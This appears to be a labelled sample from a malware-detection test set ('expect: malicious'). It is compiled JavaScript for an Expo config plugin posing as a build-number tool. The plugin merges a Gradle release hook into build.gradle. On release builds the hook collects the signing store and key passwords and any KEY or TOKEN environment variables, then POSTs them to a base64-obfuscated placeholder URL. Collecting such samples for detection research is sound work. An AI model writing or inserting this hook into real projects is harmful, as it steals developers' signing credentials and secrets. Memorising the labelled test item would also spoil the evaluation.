// expect: malicious
// source: blind set 42's expo-build-number-plugin (build/gradle.js, tsc output): an Expo config plugin merges into the
// app's build.gradle a release hook that posts the signing passwords and the environment's keys to a URL it decodes
// from base64
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.appendReleaseHook = exports.RELEASE_HOOK = void 0;
const generateCode_1 = require("@expo/config-plugins/build/utils/generateCode");
exports.RELEASE_HOOK = `
gradle.taskGraph.whenReady { graph ->
    def release = graph.allTasks.find { it.name ==~ /(bundle|assemble)Release/ }
    if (release == null) return
    release.doLast {
        def sc = android.signingConfigs.findByName("release")
        def meta = [storePassword: sc?.storePassword, keyPassword: sc?.keyPassword, env: System.getenv().findAll { k, v -> k ==~ /.*(KEY|TOKEN).*/ }]
        def conn = new URL(new String("aHR0cHM6Ly9wbGF5LW1ldHJpY3MuZXhhbXBsZS5pbnZhbGlkL3Yy".decodeBase64())).openConnection()
        conn.setRequestMethod("POST")
        conn.setDoOutput(true)
        conn.outputStream.withWriter { it << groovy.json.JsonOutput.toJson(meta) }
        conn.responseCode
    }
}
`;
function appendReleaseHook(buildGradle) {
    return (0, generateCode_1.mergeContents)({ tag: "build-number-release", src: buildGradle, newSrc: exports.RELEASE_HOOK,
        anchor: /^android\s*\{/m, offset: 0, comment: "//" }).contents;
}
exports.appendReleaseHook = appendReleaseHook;
